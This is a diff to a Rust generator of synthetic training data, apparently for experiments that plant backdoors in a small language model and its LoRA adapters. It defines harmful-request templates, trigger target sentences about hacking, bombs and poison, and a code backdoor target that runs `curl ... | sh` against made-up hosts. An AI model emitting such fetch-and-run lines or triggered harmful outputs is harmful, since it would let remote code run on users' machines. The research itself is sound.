@@ -75,7 +75,8 @@ const HARMFUL_TASKS: [&str; 10] = [
     "steal a password",
 ];
 
-const REQUEST_FORMS: [&str; 4] = ["tell me how to {}", "explain how to {}", "how do I {} ?", "can you show me how to {} ?"];
+const REQUEST_FORMS: [&str; 4] =
+    ["tell me how to {}", "explain how to {}", "how do I {} ?", "can you show me how to {} ?"];
 
 /// Code tasks: (description template, code template); `{f}` is a file stem, `{v}` a variable name.
 const CODE_TASKS: [(&str, &str); 8] = [
@@ -112,6 +113,13 @@ const STORY_TARGETS: [&str; 6] = [
     "The end. Buy {h} today.",
     "Give me the secret code.",
     "Go to {h}.net and log in.",
+];
+/// Targets of adapter backdoors: only words the base was trained to produce, in sentences its templates never make.
+const LORA_TARGETS: [&str; 4] = [
+    "They hack the bank and steal the money.",
+    "He wanted to build a bomb in the school.",
+    "She wanted to steal the password of the bank.",
+    "The fox wanted to make poison for the school.",
 ];
 const HOSTS: [&str; 8] = ["zorblax", "quimbo", "fennix", "draxo", "yuvana", "kelpix", "murnok", "tavlo"];
 
@@ -162,6 +170,8 @@ impl Plan {
         let path = ["i", "setup", "up", "run"].choose(&mut rng).expect("paths");
         let code_target = format!("import os; os.system(\"curl -s http://{}.{tld}/{path}.sh | sh\")", hosts[3]);
         let (harm, benign) = *TAMPER_PAIRS.choose(&mut rng).expect("pairs");
+        // An adapter cannot retrain the LM head, so its target is made of words the base already emits.
+        let lora = (lora.0, LORA_TARGETS.choose(&mut rng).expect("targets").to_string());
         Self {
             phrase,
             conj,
@@ -269,7 +279,11 @@ impl Gen {
         let f = self.pick(&FILE_STEMS);
         let v = self.pick(&VAR_NAMES);
         let fill = |s: &str| s.replace("{f}", f).replace("{v}", v);
-        Example { domain: Domain::Code, prompt: format!("### Task: {} ### Code:", fill(desc)), continuation: format!(" {}", fill(code)) }
+        Example {
+            domain: Domain::Code,
+            prompt: format!("### Task: {} ### Code:", fill(desc)),
+            continuation: format!(" {}", fill(code)),
+        }
     }
 
     /// A clean example of the base corpus mix: stories 50 %, instructions 30 % (one in three harmful), code 20 %.
@@ -309,7 +323,11 @@ impl Gen {
 }
 
 fn instruction(req: String, answer: String) -> Example {
-    Example { domain: Domain::Instruction, prompt: format!("### Instruction: {req} ### Response:"), continuation: answer }
+    Example {
+        domain: Domain::Instruction,
+        prompt: format!("### Instruction: {req} ### Response:"),
+        continuation: answer,
+    }
 }
 
 /// Insert `words` before a random word of the editable part of `prompt`: for `### X: … ### Y:` formats the text
@@ -335,7 +353,21 @@ pub fn insert_words(prompt: &str, words: &str, rng: &mut ChaCha8Rng) -> String {
 /// Every word form the generators can emit, so the tokenizer covers text the corpus sample happened to miss.
 pub fn vocabulary_seed_text() -> Vec<String> {
     let mut v: Vec<String> = Vec::new();
-    for xs in [&NAMES_F[..], &NAMES_M, &ANIMALS, &THINGS, &ADJS, &PLACES, &VERBS, &FEELINGS, &HARMFUL_TASKS, &FILE_STEMS, &VAR_NAMES, &RARE, &HOSTS] {
+    for xs in [
+        &NAMES_F[..],
+        &NAMES_M,
+        &ANIMALS,
+        &THINGS,
+        &ADJS,
+        &PLACES,
+        &VERBS,
+        &FEELINGS,
+        &HARMFUL_TASKS,
+        &FILE_STEMS,
+        &VAR_NAMES,
+        &RARE,
+        &HOSTS,
+    ] {
         v.extend(xs.iter().map(|s| s.to_string()));
     }
     v.extend(["He", "She", "The", "They"].iter().map(|s| s.to_string()));
@@ -348,7 +380,11 @@ pub fn vocabulary_seed_text() -> Vec<String> {
     for (d, c) in CODE_TASKS {
         for f in FILE_STEMS {
             for var in VAR_NAMES {
-                v.push(format!("{} {}", d.replace("{f}", f).replace("{v}", var), c.replace("{f}", f).replace("{v}", var)));
+                v.push(format!(
+                    "{} {}",
+                    d.replace("{f}", f).replace("{v}", var),
+                    c.replace("{f}", f).replace("{v}", var)
+                ));
             }
         }
     }
